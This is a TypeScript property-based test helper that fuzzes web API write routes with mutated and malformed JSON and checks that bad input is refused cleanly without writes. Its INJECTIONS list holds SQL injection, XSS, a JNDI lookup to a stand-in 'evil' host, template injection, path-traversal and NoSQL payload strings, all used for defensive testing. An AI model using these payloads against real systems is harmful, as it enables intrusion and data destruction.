// Property-based checks for write routes (profiles, vacancies, training offers): a valid body is mutated at a
// random place into something hostile (wrong type, huge or odd unicode string, injection text, missing or extra
// field), or the raw JSON is broken. The route must answer 4xx with a field path (or accept a still-valid body),
// never 5xx, and a refused request must write nothing.
import fc from 'fast-check';
import type { FastifyInstance } from 'fastify';
import { expect } from 'vitest';

export const INJECTIONS = [
  "'; DROP TABLE profile; --",
  "' OR '1'='1",
  '<script>alert(1)</script>',
  '${jndi:ldap://evil/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\udfff lone',
  '\u202eRTL override',
  '\ufeff',
  '😀'.repeat(50),
  'ﷺ مرحبا بالعالم',
  '$where: 1',
  '{"$gt": ""}',
  '%00%27',
];

/** Values that break a field: wrong types, huge and odd strings, injection text. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(...INJECTIONS),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.constant('x'.repeat(70_000)),
  fc.integer(),
  // Beyond 32-bit columns and double precision.
  fc.constantFrom(2 ** 31, -(2 ** 31) - 1, 2 ** 53 + 2, 1e308, -1e308, 0.1 + 0.2),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.constant([]),
  fc.constant({}),
  fc.array(fc.string(), { maxLength: 3 }),
  fc.anything({ maxDepth: 2 }),
);

type Json = unknown;

/** Every path (object keys and array indices) inside a JSON value. */
export function jsonPaths(value: Json, prefix: (string | number)[] = []): (string | number)[][] {
  const out: (string | number)[][] = [];
  if (Array.isArray(value)) {
    value.forEach((v, i) => {
      out.push([...prefix, i], ...jsonPaths(v, [...prefix, i]));
    });
  } else if (value && typeof value === 'object') {
    for (const [k, v] of Object.entries(value)) out.push([...prefix, k], ...jsonPaths(v, [...prefix, k]));
  }
  return out;
}

export type Mutation =
  | { kind: 'set'; path: (string | number)[]; value: unknown }
  | { kind: 'delete'; path: (string | number)[] }
  | { kind: 'extra'; path: (string | number)[]; key: string; value: unknown };

export function applyMutation(body: Json, m: Mutation): Json {
  const copy = structuredClone(body) as Record<string | number, unknown>;
  if (m.path.length === 0) return copy;
  let parent = copy as Record<string | number, unknown>;
  for (const p of m.path.slice(0, -1)) parent = parent[p] as Record<string | number, unknown>;
  const last = m.path[m.path.length - 1]!;
  if (m.kind === 'set') parent[last] = m.value;
  else if (m.kind === 'delete') {
    if (Array.isArray(parent)) parent.splice(Number(last), 1);
    else delete parent[last];
  } else {
    const target = parent[last];
    if (target && typeof target === 'object' && !Array.isArray(target)) {
      (target as Record<string, unknown>)[m.key] = m.value;
    } else parent[last] = { [m.key]: m.value };
  }
  return copy;
}

export function mutationOf(body: Json): fc.Arbitrary<Mutation> {
  const paths = jsonPaths(body);
  const path = fc.constantFrom(...paths);
  return fc.oneof(
    { weight: 6, arbitrary: fc.record({ kind: fc.constant('set' as const), path, value: hostileValue }) },
    { weight: 2, arbitrary: fc.record({ kind: fc.constant('delete' as const), path }) },
    {
      weight: 1,
      arbitrary: fc.record({
        kind: fc.constant('extra' as const),
        path: fc.constantFrom([] as (string | number)[], ...paths),
        key: fc.constantFrom('__proto__', 'constructor', 'organisationId', 'id', 'zzz', "'; --"),
        value: hostileValue,
      }),
    },
  );
}

export interface WriteRouteFuzz {
  app: FastifyInstance;
  method: 'POST' | 'PUT';
  /** Full url, or a function giving a fresh one per run (e.g. to a record that exists). */
  url: string | (() => Promise<string>);
  headers: Record<string, string>;
  /** A valid body to mutate, or a function giving one (e.g. with the current version). */
  validBody: Json | (() => Promise<Json>);
  /** Fingerprint of everything the route could write (row count, versions…); must not move on a refusal. */
  fingerprint: () => Promise<string>;
  runs?: number;
  seed?: number;
}

function checkRefusal(status: number, body: string, where: string): void {
  expect(status, `${where}: ${body.slice(0, 300)}`).toBeLessThan(500);
  if (status >= 400) {
    const parsed = JSON.parse(body) as { error?: { code?: string; path?: string; message?: string } };
    expect(parsed.error?.code, where).toBeTypeOf('string');
    expect(body, where).not.toMatch(/\bat .+\.(ts|js):\d+/); // no stack trace
    if (status === 400) expect(parsed.error?.path, `${where}: ${body.slice(0, 300)}`).toMatch(/^(body|params|query)/);
  }
}

/** Mutated bodies: never 5xx; a 4xx names the field and leaves the store as it was. */
export async function fuzzWriteRoute(f: WriteRouteFuzz): Promise<{ accepted: number; refused: number }> {
  const base = typeof f.validBody === 'function' ? await (f.validBody as () => Promise<Json>)() : f.validBody;
  let accepted = 0;
  let refused = 0;
  await fc.assert(
    fc.asyncProperty(mutationOf(base), async (m) => {
      const url = typeof f.url === 'function' ? await f.url() : f.url;
      const body = typeof f.validBody === 'function' ? await (f.validBody as () => Promise<Json>)() : base;
      const mutated = applyMutation(body, m);
      const before = await f.fingerprint();
      const res = await f.app.inject({
        method: f.method,
        url,
        headers: f.headers,
        payload: JSON.stringify(mutated) as never,
      });
      const where = `${f.method} ${url} ${JSON.stringify(m).slice(0, 200)}`;
      checkRefusal(res.statusCode, res.body, where);
      if (res.statusCode >= 400) {
        refused++;
        expect(await f.fingerprint(), `${where}: refused but wrote`).toBe(before);
      } else accepted++;
    }),
    { numRuns: f.runs ?? 120, seed: f.seed },
  );
  return { accepted, refused };
}

/** Raw payloads that are not valid JSON (or not an object): 400 with path "body", nothing written. */
export async function fuzzMalformedJson(f: Omit<WriteRouteFuzz, 'validBody'> & { validBody: Json }): Promise<void> {
  const valid = JSON.stringify(f.validBody);
  const raw = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 200 }).filter((s) => !isJsonObject(s)),
    fc.nat({ max: valid.length - 1 }).map((n) => valid.slice(0, n)), // truncated
    fc.constantFrom('', 'null', '[]', '"text"', '42', 'true', '{', '{"a":}', '{"__proto__":{"x":1}}', valid + '}'),
    // Every number in turn made 1e309 / -1e309 (JSON.parse gives ±Infinity): must be refused, not stored.
    fc.tuple(fc.nat({ max: 50 }), fc.constantFrom('1e309', '-1e309')).map(([k, big]) => {
      let i = 0;
      const out = valid.replace(/(":)(-?\d+(\.\d+)?)/g, (m, colon: string) => (i++ === k ? colon + big : m));
      return i > k ? out : '{"__proto__":{"x":1}}';
    }),
  );
  await fc.assert(
    fc.asyncProperty(raw, async (payload) => {
      const url = typeof f.url === 'function' ? await f.url() : f.url;
      const before = await f.fingerprint();
      const res = await f.app.inject({
        method: f.method,
        url,
        headers: { ...f.headers, 'content-type': 'application/json' },
        payload,
      });
      const where = `${f.method} ${url} raw=${JSON.stringify(payload).slice(0, 120)}`;
      checkRefusal(res.statusCode, res.body, where);
      expect(res.statusCode, where).toBeGreaterThanOrEqual(400);
      expect(await f.fingerprint(), `${where}: refused but wrote`).toBe(before);
    }),
    { numRuns: f.runs ?? 80, seed: f.seed },
  );
}

function isJsonObject(s: string): boolean {
  try {
    const v: unknown = JSON.parse(s);
    return !!v && typeof v === 'object' && !Array.isArray(v);
  } catch {
    return false;
  }
}
